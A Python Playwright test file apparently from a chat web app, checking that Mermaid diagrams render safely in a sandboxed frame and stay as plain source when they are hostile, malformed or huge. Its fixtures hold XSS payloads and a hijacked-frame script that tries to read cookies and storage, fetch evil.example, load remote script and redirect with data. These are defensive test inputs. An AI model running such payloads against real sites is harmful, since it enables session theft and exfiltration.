"""Diagrams are drawn where they can do nothing, shown as images, and stay as their source where they cannot be drawn."""

from __future__ import annotations

import re

from playwright.sync_api import Route, expect

from tests.ui.web.harness import Server, Speaker, Visit

TIDES = """\
flowchart TD
    A[Read the tides] --> B{High water?}
    B -->|yes| C[Sail]
    click A href "https://evil.example" _blank
"""
LABELS = """\
flowchart TD
    A["<img src='https://evil.example/pixel' onerror='alert(1)'><script>alert(2)</script>"] --> B
    click A call alert(3)
    click B "javascript:alert(4)"
"""
SETTINGS = """\
%%{init: {"securityLevel": "loose", "secure": [], "htmlLabels": true, "themeCSS": "@import url(https://evil.example/css);"}}%%
flowchart TD
    A["<b onclick='alert(5)'>HTML</b>"]
"""
IMAGE = 'flowchart TD\n    A@{ img: "https://evil.example/image", label: "x", w: 60, h: 60 }\n'
MANY = """() => {
    const block = document.querySelector(".code[data-diagram]").cloneNode(true);
    block.querySelector("code").textContent = "flowchart TD\\n" + [...Array(50_000).keys()].map((n) => "N" + n).join("\\n");
    document.querySelector(".messages .prose").append(block);
}"""
EDGES = "flowchart TD\n" + "\n".join(f"N{n} --> N{n + 1}" for n in range(600))
TAKEN_OVER = """async (home) => {
    const got = [];
    const attempts = {
        cookie: () => document.cookie,
        storage: () => localStorage.length,
        page: () => parent.document.body,
        address: () => { top.location = "https://evil.example/"; },
        export: () => fetch(home + "/export/any/json"),
        elsewhere: () => fetch("https://evil.example/"),
        script: () => new Promise((yes, no) => document.head.append(
            Object.assign(document.createElement("script"), {src: "https://evil.example/", onload: yes, onerror: no}))),
    };
    for (const [name, attempt] of Object.entries(attempts)) await Promise.resolve().then(attempt).then(() => got.push(name), () => {});
    return got;
}"""
LEAVE = "() => setTimeout(() => { location = 'https://evil.example/?words'; })"


def fenced(*sources: str) -> str:
    return "\n\n".join(f"```mermaid\n{source}\n```" for source in sources)


def test_a_diagram_is_its_source_while_it_streams_and_then_an_image_in_the_colours_of_the_page(
    visit: Visit, speaker: Speaker
) -> None:
    page = visit.page
    page.emulate_media(color_scheme="light")
    image = page.locator(".drawing img")
    speaker.will_say(fenced(TIDES))
    speaker.stall()
    visit.say("Draw it.")
    expect(page.locator(".live .code pre")).to_contain_text("flowchart TD")
    expect(image).to_have_count(0)
    page.locator("#stop").click()
    visit.idle()
    speaker.will_say(fenced(TIDES))
    page.locator("[data-action=retry]").last.click()
    expect(image).to_be_visible()
    light = image.get_attribute("src") or ""
    assert light.startswith("data:image/svg+xml;")
    expect(image).to_have_attribute("alt", "flowchart-v2: yes, Read the tides, High water?, Sail")
    source = page.get_by_role("button", name="Source")
    source.click()
    expect(page.locator(".message .code pre")).to_contain_text("Read the tides")
    expect(image).to_be_hidden()
    page.locator(".message.assistant").last.locator("[data-action=pin]").click()
    expect(page.locator(".message.assistant.pinned")).to_be_visible()
    expect(source).to_have_attribute("aria-pressed", "true")  # also in the message that was drawn anew
    source.click()
    expect(image).to_be_visible()
    page.emulate_media(color_scheme="dark")
    expect(image).not_to_have_attribute("src", light)


def test_a_hostile_or_huge_diagram_does_nothing_but_stay_as_its_source(
    visit: Visit, speaker: Speaker
) -> None:
    page = visit.page
    asked: list[Route] = []
    page.route(re.compile("evil[.]example"), lambda route: asked.append(route))
    speaker.will_say(fenced(LABELS, SETTINGS, IMAGE, EDGES, "flowchart TD\n  A --> ((", "no kind"))
    visit.ask("Draw.")
    blocks = page.locator(".code[data-diagram]")
    whys = {
        2: "The source image cannot be decoded",
        3: "Edge limit exceeded",
        4: "line 2 cannot be read",
        5: "it begins with no kind of diagram",
        6: "it is longer than 20,000 characters",  # more than the provider of the tests says at once
    }
    for n in range(2):
        blocks.nth(n).scroll_into_view_if_needed()
        expect(blocks.nth(n).locator("img")).to_be_visible()
    page.evaluate(MANY)  # with the drawing that it is a copy of
    for n, why in whys.items():
        blocks.nth(n).scroll_into_view_if_needed()
        expect(blocks.nth(n).locator(".undrawn")).to_contain_text(f"Not drawn: {why}")
        expect(blocks.nth(n).locator("pre")).to_be_visible()
    assert "<script" not in page.locator(".messages").inner_html()
    assert asked == []
    # the frame's policy was tried, and nothing of it ran: no dialog
    visit.wrong = [each for each in visit.wrong if each.startswith(("dialog", "error"))]


def test_whoever_takes_over_the_frame_reaches_nothing_and_the_next_diagram_is_drawn(
    visit: Visit, speaker: Speaker, server: Server
) -> None:
    page = visit.page
    asked: list[Route] = []
    page.route(re.compile("evil[.]example"), lambda route: asked.append(route))
    speaker.will_say(fenced(TIDES), fenced(TIDES.replace("Sail", "Row")))
    visit.ask("Draw.")
    expect(page.locator(".drawing img")).to_be_visible()
    (frame,) = page.frames[1:]
    assert frame.evaluate(TAKEN_OVER, server.url) == []
    frame.evaluate(LEAVE)
    expect(page.locator(".drawing-frame")).to_have_count(0)
    visit.ask("Another.")
    expect(page.locator(".drawing img").last).to_have_attribute(
        "alt", "flowchart-v2: yes, Read the tides, High water?, Row"
    )
    assert asked == []
    visit.wrong.clear()  # the violations that were provoked
